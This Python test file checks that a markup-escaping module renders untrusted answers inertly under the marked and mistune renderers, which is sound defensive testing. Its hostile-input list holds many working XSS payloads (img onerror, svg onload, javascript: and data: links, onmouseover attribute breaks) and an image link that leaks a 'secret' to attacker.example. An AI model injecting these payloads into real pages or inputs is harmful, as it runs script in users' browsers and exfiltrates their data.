"""Untrusted text escaped for HTML and Markdown: exact outputs, and hostile inputs rendered by marked and mistune."""

from __future__ import annotations

import random

import pytest
from rendering import inspect, render_both, visible

from odsc_magics.markup import (
    html_link,
    html_text,
    markdown_answer,
    markdown_code,
    markdown_code_block,
    markdown_message,
    markdown_text,
)

IMG = '<img src=x onerror="alert(1)">'

# (answer, text the reader must see). Every answer is also rendered: nothing active may come out.
HOSTILE = [
    (f"Hi {IMG} there", f"Hi {IMG} there"),
    ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    ('<iframe src="https://evil.example"></iframe>', '<iframe src="https://evil.example"></iframe>'),
    ("<svg onload=alert(1)><circle/></svg>", "<svg onload=alert(1)><circle/></svg>"),
    ("<style>*{display:none}</style>", "<style>*{display:none}</style>"),
    ("<a href=javascript:alert(1)>x</a>", "<a href=javascript:alert(1)>x</a>"),
    (f"<!-- {IMG} -->", f"<!-- {IMG} -->"),
    (f"<div>\n{IMG}\n</div>", IMG),
    ("&lt;img src=x onerror=alert(1)&gt;", "&lt;img src=x onerror=alert(1)&gt;"),
    ("&#60;img src=x onerror=alert(1)&#x3e; &amp; a & b", "&#60;img src=x onerror=alert(1)&#x3e; &amp; a & b"),
    ("<javascript:alert(1)>", "<javascript:alert(1)>"),
    ("<https://example.com>", "<https://example.com>"),
    ("[x](javascript:alert(1))", "x"),
    ("[x](JaVaScRiPt\\:alert(1))", "x"),
    ("[x](  vbscript:msgbox(1))", "x"),
    ("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "x"),
    ("[x][r]\n\n[r]: javascript:alert(1)", "x"),
    ("[x][r]\n\n[r]:\n  javascript:alert(1)", "x"),
    ("[x]\n\n[x]:javascript:alert(1)", "x"),
    ("![x](https://attacker.example/leak.png?q=secret)", "!x"),
    ("![x](javascript:alert(1))", "!x"),
    ("![x][r]\n\n[r]: https://attacker.example/a.png", "!x"),
    ("[![x](https://attacker.example/a.png)](https://example.com)", "!x"),
    (f"```\n{IMG}\n```", IMG),
    (f"```html\nunclosed {IMG}", f"unclosed {IMG}"),
    (f"  ```\n  {IMG}\n  ```", IMG),
    (f"~~~\n{IMG}\n~~~", IMG),
    (f"````\n```\n{IMG}\n````", f"```\n{IMG}"),
    (f"```\nend?\n```not-a-close\n{IMG}\n```", IMG),
    (f"1. step\n   ```\n{IMG}\n   ```\n2. next", IMG),
    (f"- ```\n{IMG}\n  ```", IMG),
    (f"> ```\n> {IMG}\n> ```", IMG),
    (f"`{IMG}`", IMG),
    (f"``a`{IMG}``", f"a`{IMG}"),
    (f"\\`{IMG}`", f"`{IMG}`"),
    (f"\\\\`{IMG}`", f"\\{IMG}"),
    (f'[a](u "t`") {IMG} `"`', IMG),
    (f"[a](u`) {IMG} `)", IMG),
    (f"http://x.example/a`{IMG}`", IMG),
    (f"www.x.example/`{IMG}`", IMG),
    (f"| a | b |\n|---|---|\n| `x|{IMG}` | <svg onload=alert(1)> |", IMG),
    (f"\\{IMG}", IMG),
    (f"\\\\{IMG}", f"\\{IMG}"),
    (f"```\r{IMG}\r```\r<svg onload=alert(1)>", "<svg onload=alert(1)>"),
    # JupyterLab cuts math out and pastes it back escaped but with its quotes: it must not reach an attribute
    (f"$${IMG}$$ and ${IMG}$", "onerror="),
    ('[a](http://x/$" onmouseover="alert(1)$)', "a"),
    ('[a](http://x/`$"onmouseover="alert(1)$`)', "a"),
    ('[a](http://x/\\\\("onmouseover="alert(1)\\\\))', "a"),
    ('[a](http://x/ "t$" onmouseover="alert(1)$")', "a"),
    (f"# {IMG}\n\nSetext {IMG}\n===", IMG),
    (f"[{IMG}](https://example.com)", IMG),
    (f"**{IMG}** _x_ ~~y~~", IMG),
    (f"<{IMG}", f"<{IMG}"),
    ("<img\nsrc=x\nonerror=alert(1)>", "onerror=alert(1)>"),
    ("<?php echo 1; ?> <![CDATA[x]]> <!DOCTYPE html>", "<?php echo 1; ?> <![CDATA[x]]> <!DOCTYPE html>"),
]


def _hostile_html() -> list[tuple[str, str, str, str]]:
    answers = [answer for answer, _ in HOSTILE]
    rendered = render_both([markdown_answer(a) for a in answers])
    return [(a, seen, marked, mistune) for (a, seen), (marked, mistune) in zip(HOSTILE, rendered, strict=True)]


def test_hostile_answers_render_as_their_text_and_nothing_else() -> None:
    failures = []
    for answer, seen, *outputs in _hostile_html():
        for renderer, output in zip(("marked", "mistune"), outputs, strict=True):
            problems = inspect(output).problems()
            if problems or seen not in visible(output):
                failures.append(f"{renderer}: {answer!r} -> {markdown_answer(answer)!r} -> {output!r} {problems}")
    assert not failures, "\n".join(failures)


def test_without_escaping_the_same_answers_are_live() -> None:
    # the witness: both renderers pass raw HTML and script links through, so the test above can fail
    rendered = render_both([f"Hi {IMG}", "[x](javascript:alert(1))"])
    for marked, mistune in rendered:
        assert inspect(marked).problems() and inspect(mistune).problems()


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        (f"Hi {IMG}", "Hi &lt;img src=x onerror=&quot;alert(1)&quot;>"),
        ("a &lt;b&gt; & c &amp;", "a &amp;lt;b&amp;gt; & c &amp;amp;"),
        ("**bold** and `List<String>`", "**bold** and <code>List&lt;String\\></code>"),
        ("[x](javascript:alert(1))", "[x](javascript\u200b:alert(1))"),
        ("![x](https://e.example/a.png)", "\\![x](https://e.example/a.png)"),
        ("text\n```py\nx = '<b>' + \"``\"\n```\nmore", "text\n\n```py\nx = '<b>' + \"``\"\n```\n\nmore"),
        ('say `"hi"` to $x$', "say <code>&quot;hi&quot;</code> to $x$"),
        ("$0 < p$ and $$a<b$$ but 1 < 2", "$0 \\lt  p$ and $$a\\lt b$$ but 1 &lt; 2"),
        ("```\nlog ``` line", "````\nlog ``` line\n````"),
        ("1. a\n   ```sh\n   echo hi\n   ```\n2. b", "1. a\n\n```sh\necho hi\n```\n\n2. b"),
        ("\\<b> and a stray ` tick", "&lt;b> and a stray \\` tick"),
        ("Here is the data: 5 rows", "Here is the data: 5 rows"),
    ],
)
def test_answer_exact_output(answer: str, expected: str) -> None:
    assert markdown_answer(answer) == expected


def test_the_answers_own_markdown_still_renders() -> None:
    answer = (
        "# Title\n\nSome **bold**, _em_ and `code`.\n\n- one\n- two\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n[docs](https://example.com/x)\n\n```python\nprint('<hi>')\n```"
    )
    for output in render_both([markdown_answer(answer)])[0]:
        found = inspect(output)
        assert {"h1", "strong", "em", "code", "ul", "li", "table", "td", "a", "pre"} <= set(found.elements)
        assert ("a", "href", "https://example.com/x") in found.attributes
        assert ("code", "class", "language-python") in found.attributes
        assert "print('<hi>')" in found.text
        assert not found.problems()


def test_math_with_less_than_reaches_mathjax_as_tex() -> None:
    # JupyterLab cuts math out before Markdown and gives MathJax its text: `&lt;` there would show as typed
    jupyterlab, _ = render_both([markdown_answer("If $0 < p \\le 1$ then <b>ok</b>")])[0]
    assert visible(jupyterlab) == "If $0 \\lt  p \\le 1$ then <b>ok</b>\n"


def test_random_mixtures_of_hostile_fragments_stay_inert() -> None:
    fragments = [answer for answer, _ in HOSTILE] + [
        "`", "``", "```", "~~~", "\n", "\n\n", "   ", "\\", "[", "](", ")", "!", "<", "&", "*", "> ", "- ", "1. ",
        "|", "$", "$$", "javascript:", "data:", "http://x.example/", "\t", "\r", '"', '" onmouseover="alert(1)',
        "[a](http://x/", "\\\\(", "\\\\)", "\\begin{a}", "\\end{a}", "{", "}", "@@0@@",
    ]  # fmt: skip
    rng = random.Random(20261129)
    docs = ["".join(rng.choice(fragments) for _ in range(rng.randint(2, 12))) for _ in range(800)]
    rendered = render_both([markdown_answer(d) for d in docs])
    failures = [
        f"{doc!r}: {problems}"
        for doc, outputs in zip(docs, rendered, strict=True)
        for output in outputs
        if (problems := inspect(output).problems())
    ]
    assert not failures, "\n".join(failures[:10])


# ------------------------------------------------------------------------------------- text, code, html


def test_markdown_text_is_literal() -> None:
    assert markdown_text("a|b *c* <img> &amp; #1\nx") == "a\\|b \\*c\\* &lt;img\\> &amp;amp\\; \\#1 x"
    samples = ["# not a heading", "* not a list", "1. no", "> no", "a | b", f"x {IMG}", "[l](javascript:x)", "`c`"]
    for sample in samples:
        for output in render_both([f"**{markdown_text(sample)}**"])[0]:
            found = inspect(output)
            assert found.elements == ["p", "strong"], output
            assert found.text.strip() == sample


def test_markdown_text_keeps_a_table_whole() -> None:
    cell = markdown_text(f"a|b\n{IMG} `x`")
    table = f"| h | i |\n|---|---|\n| {cell} | 2 |"
    for output in render_both([table])[0]:
        found = inspect(output)
        assert found.elements.count("td") == 2 and not found.problems()
        assert f"a|b {IMG} `x`" in found.text


def test_markdown_code_cannot_be_closed_from_inside() -> None:
    assert markdown_code("a ` b") == "`` a ` b ``"
    assert markdown_code("x ``` y") == "```` x ``` y ````"
    for output in render_both([f"run {markdown_code('a `` b ' + IMG)} now"])[0]:
        found = inspect(output)
        assert found.elements == ["p", "code"] and f"a `` b {IMG}" in found.text


def test_markdown_code_block_fence_outgrows_the_text() -> None:
    logs = f"line 1\n```\n{IMG}\n`````\nlast"
    assert markdown_code_block(logs) == f"``````text\n{logs}\n``````"
    assert markdown_code_block("x", "json") == "```json\nx\n```"
    assert markdown_code_block("x", 'py"><img') == "```pyimg\nx\n```"
    for output in render_both([f"**Logs**\n\n{markdown_code_block(logs)}\n\nafter"])[0]:
        found = inspect(output)
        assert found.elements == ["p", "strong", "pre", "code", "p"], output
        assert logs in found.text and not found.problems()


def test_markdown_message_shows_backticked_spans_as_code_and_the_rest_as_text() -> None:
    assert markdown_message("Run `%llm_deploy status x` now.") == "Run ` %llm_deploy status x ` now\\."
    name = f"a`b{IMG}"
    for output in render_both([markdown_message(f"`%llm_deploy status {name}` watches *it*")])[0]:
        found = inspect(output)
        assert not found.problems() and "em" not in found.elements
        assert IMG in found.text


def test_html_text_and_link() -> None:
    assert html_text(f"{IMG} & 'q'") == "&lt;img src=x onerror=&quot;alert(1)&quot;&gt; &amp; &#x27;q&#x27;"
    assert html_link("https://x.example/a?b=1&c=2") == (
        '<a href="https://x.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">'
        "https://x.example/a?b=1&amp;c=2</a>"
    )
    assert html_link("javascript:alert(1)") == "javascript:alert(1)"
    assert html_link(' https://x.example/"onmouseover=alert(1)') == html_text(' https://x.example/"onmouseover=alert(1)')
